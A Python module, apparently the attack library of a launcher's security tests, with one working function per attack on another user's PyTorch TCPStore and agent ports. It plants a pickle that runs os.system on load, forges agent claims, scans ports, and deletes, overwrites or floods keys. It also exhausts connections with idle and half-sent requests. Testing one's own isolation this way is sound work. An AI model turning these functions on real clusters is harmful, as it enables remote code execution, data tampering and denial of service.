"""What somebody can do who reaches the ports of another user's job: one function each.

Every attack takes a host and port, and some a word more; it returns what it did. Nothing here knows
the run's secret, or any file of it: only this package, and what the network gives away.
"""

from __future__ import annotations

import base64
import contextlib
import os
import pickle
import resource
import socket
from collections.abc import Callable, Iterator
from datetime import timedelta
from functools import cache
from typing import Any

import msgspec

from fsdpkit.launching.board import Answer, Letter, Order, Said
from fsdpkit.launching.policy import Report
from fsdpkit.launching.signing import GREETING_BYTES, Claim, Frames, Keys

TIMEOUT_S = 3
FLOOD_KEYS, FLOOD_VALUE = 2000, b"x" * 50_000
HELLO = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
EPHEMERAL = (32768, 61000)
_held: list[socket.socket] = []
"""Connections that stay open until `let_go`."""


@cache
def connect(host: str, port: int) -> Any:
    from torch.distributed import TCPStore

    return TCPStore(
        host, port, wait_for_workers=False, timeout=timedelta(seconds=TIMEOUT_S), use_libuv=True
    )


def contents(host: str, port: int) -> dict[str, bytes]:
    """Every key and its value, also of those whose names are secret."""
    store = connect(host, port)
    found = {}
    for key in store.list_keys():
        with contextlib.suppress(RuntimeError):  # deleted in the meantime
            found[key] = bytes(store.get(key))
    return found


# Code in what torch's rendezvous reads


class _Planted:
    def __init__(self, marker: str) -> None:
        self.command = f"id -un >>{marker}"

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def plant_pickle(host: str, port: int, marker: str) -> int:
    """Whoever loads one runs a command: in place of every value, and where c10d has its state."""
    store, code = connect(host, port), pickle.dumps(_Planted(marker))
    planted = 0
    for key, value in contents(host, port).items():
        store.set(key, _with_pickle(value, code) or code)
        planted += 1
    for key in ("torch.rendezvous", "rdzv/torch.rendezvous.1_0", "torch.rendezvous.1_0_0"):
        store.set(key, base64.b64encode(code))
        planted += 1
    return planted


def _with_pickle(value: bytes, code: bytes) -> bytes | None:
    """The value with its pickle replaced, and all around it as it was; None: it has none."""
    if (at := value.find(b"\x80\x04\x95")) >= 0:
        return value[:at] + code
    for start in (0, *(n + 1 for n, byte in enumerate(value) if not chr(byte).isalnum())):
        if value[start:].startswith((b"gASV", b"gAWV")):
            return value[:start] + base64.b64encode(code)
    return None


# At the agents' door, in their own language


def forge(host: str, port: int) -> int:
    """Claims to be an agent by whoever has the package and not the secret; orders and reports that
    follow at once, as if it had been granted. How many got an answer."""
    end = msgspec.msgpack.encode(Answer(0, (Order(do="end", status=0),)))
    done = msgspec.msgpack.encode(Letter(0, (Said(1, Report(0, 1, "node2", "done")),), left=True))
    answered = 0
    for secret in (bytes(32), b"\xff" * 32, os.urandom(32)):
        for attempt in ("", "1_0", "none"):
            for node in (0, 1, 2, 99):
                keys = Keys(secret, attempt)
                with _open(host, port) as connection:
                    greeting = connection.recv(GREETING_BYTES, socket.MSG_WAITALL)
                    claim = Claim(keys, node, greeting)
                    frames = Frames(sending=keys.sign(b"up"), receiving=keys.sign(b"down"))
                    said = claim.claim + frames.seal(end) + frames.seal(done)
                    answered += _answers(connection, said)
    return answered


def echo(host: str, port: int) -> int:
    """The head's own words back to it, and one connection's to another."""
    answered = 0
    for _ in range(10):
        with _open(host, port) as one, _open(host, port) as other:
            greetings = [c.recv(GREETING_BYTES, socket.MSG_WAITALL) for c in (one, other)]
            answered += _answers(one, greetings[1] + bytes(100))
            answered += _answers(other, greetings[0] * 3)
    return answered


def _answers(connection: socket.socket, said: bytes) -> bool:
    with contextlib.suppress(OSError):
        connection.sendall(said)
        return bool(connection.recv(1))
    return False


def speak_torch(host: str, port: int) -> int:
    """As a client of a TCPStore."""
    try:
        connect(host, port)
    except Exception:
        return 0
    return 1


# In a store


def find_stores(host: str, port: int) -> list[int]:
    """Ports of this host where a TCPStore answers, but for the one that is known already."""
    found = []
    for number in range(*EPHEMERAL):
        with contextlib.suppress(OSError), socket.socket() as probe:
            probe.settimeout(TIMEOUT_S)
            if number != port and probe.connect_ex((host, number)) == 0:
                probe.sendall(HELLO + bytes([13]) + (7).to_bytes(4, "little"))  # a ping
                if probe.recv(4) == (7).to_bytes(4, "little"):
                    found.append(number)
    return found


# Force


def delete(host: str, port: int) -> int:
    store = connect(host, port)
    return sum(store.delete_key(key) for key in contents(host, port))


def overwrite(host: str, port: int) -> int:
    """Noise in every key."""
    store = connect(host, port)
    keys = [*contents(host, port)]
    for key in keys:
        store.set(key, os.urandom(64))
    return len(keys)


def flood(host: str, port: int) -> int:
    """A hundred megabytes in two thousand keys, and more behind every key that grows."""
    store = connect(host, port)
    for key, value in contents(host, port).items():
        if not value.strip().isdigit():
            store.append(key, FLOOD_VALUE)
    for number in range(FLOOD_KEYS):
        store.set(f"flood/{number}", FLOOD_VALUE)
    return FLOOD_KEYS


# Below the store


def idle(host: str, port: int, count: str = "2000") -> int:
    """Connections that say nothing."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    opened = 0
    with contextlib.suppress(OSError):
        for _ in range(int(count)):
            _held.append(_open(host, port))
            opened += 1
    return opened


def slow(host: str, port: int) -> int:
    """Requests of which half is sent, and an announcement of a string without end."""
    for sent in _half_requests():
        for _ in range(5):
            connection = _open(host, port)
            connection.sendall(sent)
            _held.append(connection)
    return len(_held)


def _half_requests() -> Iterator[bytes]:
    yield HELLO[:3]
    for request in range(1, 16):
        yield HELLO + bytes([request])
        yield HELLO + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"


def noise(host: str, port: int) -> int:
    """Bytes of no protocol, and of others."""
    words = [os.urandom(4096), b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00", b"\xff" * 65536]
    for sent in words * 5:
        with contextlib.suppress(OSError), _open(host, port) as connection:
            connection.sendall(sent)
    return len(words) * 5


def let_go(_host: str, _port: int) -> int:
    count = len(_held)
    while _held:
        _held.pop().close()
    return count


def _open(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=TIMEOUT_S)


def reaches(host: str, port: int) -> bool:
    with contextlib.suppress(OSError), _open(host, port):
        return True
    return False


ATTACKS: dict[str, Callable[..., Any]] = {
    attack.__name__: attack
    for attack in (
        *(forge, echo, speak_torch, noise, slow, idle, let_go, reaches),
        *(find_stores, plant_pickle, delete, overwrite, flood),
    )
}
